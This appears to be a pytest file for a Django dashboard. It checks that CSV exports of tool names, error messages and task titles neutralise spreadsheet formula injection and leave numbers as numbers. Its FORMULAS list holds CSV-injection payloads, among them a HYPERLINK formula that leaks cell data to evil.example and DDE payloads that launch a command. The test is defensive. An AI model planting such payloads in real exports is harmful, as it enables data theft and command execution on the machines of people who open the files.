"""CSV exports carry text an attacker chooses (tool names from MCP servers, error messages
from tools and models); a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or
a carriage return as a formula. Every export goes through one writer that makes such cells
text with a leading `'` (OWASP), and leaves numbers numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from dashboard.views.stats import CSV_TABLES
from review.models import ReviewRequest
from tasks.services import task_transition
from tasks.web.csv_export import FORMULA_START
from tests.factories import TaskFactory, ToolCallFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_rows():
    """Failed tasks and tool calls, and reviews, whose tool names, error classes and messages
    are formulas."""
    task = TaskFactory(title=FORMULAS[0])
    for n, formula in enumerate(FORMULAS):
        ToolCallFactory(
            task=task,
            tool=formula,
            status="failed",
            attempts=n + 1,
            duration_ms=10,
            step_index=n,
            error_class=formula,
            error_message=formula,
        )
        call = ToolCallFactory(task=task, tool=formula, status="approved")
        ReviewRequest.objects.create(
            task=task,
            tool_call=call,
            tool=formula,
            status="approved",
            requested_at=timezone.now() - timedelta(minutes=30),
        )
        failed = TaskFactory(title=formula)
        task_transition(task_id=failed.id, to="queued")
        task_transition(
            task_id=failed.id,
            to="failed",
            fields={"error_class": formula, "error_message": formula},
        )


def test_every_csv_export_neutralises_formula_cells(hostile_rows, as_user, viewer):
    neutralised = set()
    for table in CSV_TABLES:
        response = as_user(viewer).get(f"/stats/failures/{table}.csv?since=24h")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
        assert len(rows) > 1, table
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (table, cell)
                if cell.startswith("'"):
                    neutralised.add(cell[1:])
    # What was planted is still there, as text.
    assert {FORMULAS[0], FORMULAS[1], FORMULAS[4]} <= neutralised


def test_numbers_stay_numbers(hostile_rows, as_user, viewer):
    response = as_user(viewer).get("/stats/failures/by_tool.csv?since=24h")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0] == ["tool", "calls", "failed", "rate"]
    assert {tuple(row[1:]) for row in rows[1:]} == {("1", "1", "1.0")}
